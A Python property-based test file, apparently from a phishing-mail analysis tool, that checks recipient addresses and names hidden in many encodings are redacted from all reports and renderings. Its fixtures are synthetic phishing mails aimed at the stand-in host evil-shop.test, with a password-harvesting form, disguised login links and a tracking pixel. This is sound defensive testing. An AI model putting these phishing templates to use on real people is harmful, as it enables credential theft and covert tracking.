"""A recipient planted anywhere, in any encoding, is gone from everything that is made of the mail.

The oracle shares nothing with the redaction: it knows what was planted, and looks for that, and for what it says when it is
undone, in the renderings as a reader of each format would read them.
"""

from __future__ import annotations

import base64
import codecs
import hashlib
import json
import re
from collections.abc import Callable
from email.header import Header as EncodedHeader
from html import unescape
from html.parser import HTMLParser
from urllib.parse import quote

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from sabaku.app import conclude, offline, prepare
from sabaku.model import Case, Envelope, Home, Input
from sabaku.render import asseen, html, leaks, markdown, text
from sabaku.render import json as as_json
from sabaku.render.redact import Redaction, redaction

LOCALS = ("taro.yamada", "h-suzuki", "kenji1974", "sato_m", "m.tanaka+shop", "yuki.ito", "jwalters", "oshima-k")
DOMAINS = ("kobayashi-seiki.example", "mail.hoshino-gakuen.test", "yamanami.example", "example-nanboku.test", "日本精機.example")
PEOPLE = ("山田太郎", "鈴木 花子", "髙橋 健二", "Jonathan Walters", "Маша Петрова", "エリック・ジョンソン")


FAMILIES, GIVEN = ("山田", "佐々木", "長谷川", "髙橋", "五十嵐", "渡邊"), ("太郎", "花子", "健二", "さくら", "ユミ", "翔")
locals_ = st.sampled_from(LOCALS) | st.from_regex(r"[a-z]{3,8}[._-][a-z]{3,8}[0-9]{0,3}", fullmatch=True)
domains = st.sampled_from(DOMAINS) | st.from_regex(r"[a-z]{5,10}(-[a-z]{3,8})?[.](example|test)", fullmatch=True)
japanese = st.tuples(st.sampled_from(FAMILIES), st.sampled_from(["", " ", "\u3000"]), st.sampled_from(GIVEN)).map("".join)
people = st.sampled_from(PEOPLE) | japanese | st.from_regex(r"[A-Z][a-z]{4,8} [A-Z][a-z]{4,9}", fullmatch=True)


def b64(text: str, before: str = "") -> str:
    return base64.b64encode((before + text).encode()).decode()


ENCODINGS: dict[str, Callable[[str], str]] = {
    "plain": str,
    "upper": str.upper,
    "percent": lambda it: quote(it, safe=""),
    "double percent": lambda it: quote(quote(it, safe=""), safe=""),
    "all percent": lambda it: "".join(f"%{byte:02x}" for byte in it.encode()),
    "base64": b64,
    "base64 bare": lambda it: b64(it).rstrip("="),
    "base64 behind one": lambda it: b64(it, "x"),
    "base64 behind two": lambda it: base64.urlsafe_b64encode(f"e={it}&n=1".encode()).decode().rstrip("="),
    "hex": lambda it: it.encode().hex(),
    "reversed": lambda it: it[::-1],
    "rot13": lambda it: codecs.encode(it, "rot13"),
    "md5": lambda it: hashlib.md5(it.lower().encode()).hexdigest(),
    "sha1": lambda it: hashlib.sha1(it.lower().encode()).hexdigest(),
    "sha256": lambda it: hashlib.sha256(it.lower().encode()).hexdigest().upper(),
    "full width": lambda it: "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in it),
    "references": lambda it: "".join(f"&#{ord(char)};" if not char.isalnum() else char for char in it),
    "defanged": lambda it: it.replace(".", "[.]").replace("@", "[at]"),
    "bounce": lambda it: it.replace("@", "="),
}
"""How it is planted."""

HEADERS: dict[str, str] = {
    "Subject": "お知らせ {} の件",
    "From": '"{} サポート" <notice@evil-shop.test>',
    "Cc": '"{}" <RCPT>',
    "Reply-To": '"{}" <reply@evil-shop.test>',
    "Message-ID": "<20260205.{}@evil-shop.test>",
    "Return-Path": "<bounce+{}@evil-shop.test>",
    "References": "<{}@evil-shop.test>",
    "List-Unsubscribe": "<https://evil-shop.test/unsub/{}>",
    "X-Mailer-Recipient": "{}",
    "DKIM-Signature": "v=1; a=rsa-sha256; d=evil-shop.test; s=x; i={}; h=from; bh=AAAA; b=AAAA",
}
BODIES: dict[str, str] = {
    "text": "<p>お知らせ。{} のメールボックスは停止されます。</p>",
    "salutation": "<p>{} 様</p><p>パスワードの確認をお願いします。</p>",
    "path": '<a href="https://evil-shop.test/a/{}/login.php">こちら</a>',
    "query": '<a href="https://evil-shop.test/login.php?step=1&id={}&lang=ja">ログイン</a>',
    "fragment": '<a href="https://evil-shop.test/login.php#{}">https://bank.example/</a>',
    "userinfo": '<a href="https://{}@evil-shop.test/x">確認</a>',
    "sub-domain": '<a href="https://{}.evil-shop.test/x">確認</a>',
    "pixel": '<img src="https://evil-shop.test/open.gif?u={}" width="1" height="1">',
    "alternative text": '<a href="https://evil-shop.test/x"><img src="cid:none" alt="{}" width="90" height="40"></a>',
    "hidden text": '<div style="display:none">{}</div>',
    "mailto": '<a href="mailto:help@evil-shop.test?subject={}">問い合わせ</a>',
    "form": '<form action="https://evil-shop.test/p.php"><input name="mail" value="{}"><input type="password" name="pw"></form>',
}
PLACES = (*HEADERS, *BODIES)


class Planted:
    """One mail: who received it, and what stands in it where."""

    def __init__(self, local: str, domain: str, person: str, spots: list[tuple[str, str, str]], told: str) -> None:
        self.address, self.domain, self.person, self.told = f"{local}@{domain}", domain, person, told
        self.spots = [(place, ENCODINGS[how](getattr(self, what))) for place, what, how in spots]

    def __repr__(self) -> str:
        return f"Planted({self.address}, {self.person}, {self.spots}, {self.told})"

    @property
    def ascii_address(self) -> str:
        return self.address.replace(self.domain, _idna(self.domain))

    def raw(self) -> bytes:
        """The mail. The planted pieces stand in their places; the recipient is told by delivery, by To, or by the operator."""
        head = {
            "Return-Path": "<bounce@evil-shop.test>",
            "Delivered-To": self.ascii_address if self.told == "delivered" else "",
            "Received": (
                f"from mail.evil-shop.test (unknown [192.0.2.66]) by mx.{_idna(self.domain)} (Postfix) with ESMTP id 4F2307292395 "
                f"for <{self.ascii_address}>; Thu, 5 Feb 2026 10:15:02 +0900"
            ),
            "From": "notice@evil-shop.test",
            "To": f"{_word(self.person)} <{self.ascii_address}>",
            "Subject": "重要なお知らせ",
            "Date": "Thu, 5 Feb 2026 10:15:00 +0900",
        }
        for place, piece in self.spots:
            if place in HEADERS:
                head[place] = HEADERS[place].format(piece).replace("RCPT", self.ascii_address)
        body = "".join(BODIES[place].format(piece) for place, piece in self.spots if place in BODIES) or "<p>確認</p>"
        lines = [f"{name}: {_field(value)}" for name, value in head.items() if value]
        lines += ["MIME-Version: 1.0", "Content-Type: text/html; charset=utf-8", "", f"<html><body>{body}</body></html>", ""]
        return "\n".join(lines).encode()

    def case(self) -> Case:
        home = Home(domains=(self.domain,)) if self.told == "operator" else Home()
        envelope = Envelope(rcpt_to=(self.ascii_address,)) if self.told == "envelope" else None
        return offline(prepare(Input(self.raw(), home=home, envelope=envelope)))


def _idna(domain: str) -> str:
    return domain.encode("idna").decode("ascii")


def _field(value: str) -> str:
    return value if value.isascii() else EncodedHeader(value, "utf-8", maxlinelen=900).encode()


def _word(name: str) -> str:
    return EncodedHeader(name, "utf-8", maxlinelen=900).encode() if not name.isascii() else f'"{name}"'


@st.composite
def planted(draw: st.DrawFn) -> Planted:
    """A recipient, and up to six places where the mail tells of him."""
    spot = st.tuples(st.sampled_from(PLACES), st.sampled_from(["address", "domain", "person"]), st.sampled_from([*ENCODINGS]))
    return Planted(
        draw(locals_),
        draw(domains),
        draw(people),
        draw(st.lists(spot, min_size=1, max_size=6, unique_by=lambda it: it[0])),
        draw(st.sampled_from(["delivered", "to", "operator", "envelope"])),
    )


# --- the oracle --------------------------------------------------------------------------------------------------


class Words(HTMLParser):
    """All text and attribute values of a page, as a browser reads them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.all: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.all += [value or "" for _, value in attrs]

    def handle_data(self, data: str) -> None:
        self.all.append(data)


def strings(value: object) -> list[str]:
    if isinstance(value, dict):
        return [it for pair in value.items() for one in pair for it in strings(one)]
    if isinstance(value, list):
        return [it for one in value for it in strings(one)]
    return [value] if isinstance(value, str) else []


def read_html(page: str) -> str:
    words = Words()
    words.feed(page)
    words.close()
    return "\n".join(words.all) + "\n" + "".join(words.all)


def renderings(case: Case, hidden: Redaction) -> dict[str, tuple[bytes, str]]:
    """Everything that is made of the report and of the mail: the bytes, and what a reader of that format reads."""
    report, source = hidden.report(conclude(case)), hidden.source(case.message)
    plain = {
        "report.json": as_json.render(report).decode(),
        "report.ja.md": markdown.render(report, "ja", source),
        "report.en.md": markdown.render(report, "en"),
        "report.html": html.render(report, "ja", source),
        "report.txt": text.render(report, "en", source),
        "mail.html": asseen.page(case.message, hidden, "ja"),
        "mail.eml": source.decode("utf-8", "replace"),
    }
    read = {
        "report.json": "\n".join(strings(json.loads(plain["report.json"]))),
        "report.ja.md": re.sub(r"\\(?=[!-/:-@\[-`{-~])", "", plain["report.ja.md"]),
        "report.en.md": re.sub(r"\\(?=[!-/:-@\[-`{-~])", "", plain["report.en.md"]),
        "report.html": read_html(plain["report.html"]),
        "report.txt": re.sub(r"\n\s*", "", plain["report.txt"]),
        "mail.html": read_html(plain["mail.html"]),
        "mail.eml": plain["mail.eml"],
    }
    return {name: (it.encode(), it + "\n" + read[name]) for name, it in plain.items()}


def left(told: str, it: Planted) -> list[str]:
    """What of the recipient can be read there."""
    whole = told.replace("[.]", ".").replace("[at]", "@")
    low = unescape(whole).lower()
    wanted = {it.address.lower(), it.domain.lower(), it.ascii_address.lower(), _idna(it.domain).lower(), it.person.lower()}
    wanted.add("".join(it.person.split()).lower())
    found = [one for one in wanted if one in low]
    # what was planted encoded: its middle, which nothing else in the mail can hold
    for _, piece in it.spots:
        core = piece[3:-3] if len(piece) > 14 else piece
        if len(core) >= 6 and core.lower() in whole.lower():
            found.append(piece)
    return found


patient = settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


@patient
@given(planted())
@example(Planted("taro.yamada", "yamanami.example", "山田太郎", [(it, "address", "base64 behind two") for it in BODIES], "to"))
@example(Planted("jwalters", "日本精機.example", "Jonathan Walters", [(it, "domain", "percent") for it in PLACES], "operator"))
@example(Planted("h-suzuki", "yamanami.example", "鈴木 花子", [(it, "person", "all percent") for it in BODIES], "delivered"))
def test_no_trace_of_a_planted_recipient(it: Planted) -> None:
    case = it.case()
    hidden = redaction(case)
    for name, (body, told) in renderings(case, hidden).items():
        assert not left(told, it), (name, left(told, it), it.spots)
        assert not leaks.leaks({name: body}, hidden), (name, it.spots)


@patient
@given(planted())
def test_the_sender_stays(it: Planted) -> None:
    case = it.case()
    report = redaction(case).report(conclude(case))
    assert "evil-shop.test" in report.message.from_
    assert report.origin.ip == "192.0.2.66"
    assert all("evil-shop.test" in link.url for link in report.links if "evil-shop.test" in link.host)


@patient
@given(planted(), st.text(max_size=60))
def test_masking_twice_is_masking_once(it: Planted, more: str) -> None:
    hidden = redaction(it.case())
    for text_ in (
        it.address,
        f"{more}{it.address}{more}",
        f"x {it.person} {more}",
        f"https://a.test/?q={quote(it.address)}{more}",
    ):
        once = hidden.text(text_)
        assert hidden.text(once) == once
        assert it.address.lower() not in once.lower()


@patient
@given(st.text(max_size=400), planted())
def test_texts_that_tell_nothing_stay_as_they_are(told: str, it: Planted) -> None:
    hidden = redaction(it.case())
    if not hidden.where(told):
        assert hidden.text(told) == told
        assert hidden.url(told) == told or any(one.kind == "local-part" for one in hidden.secrets)
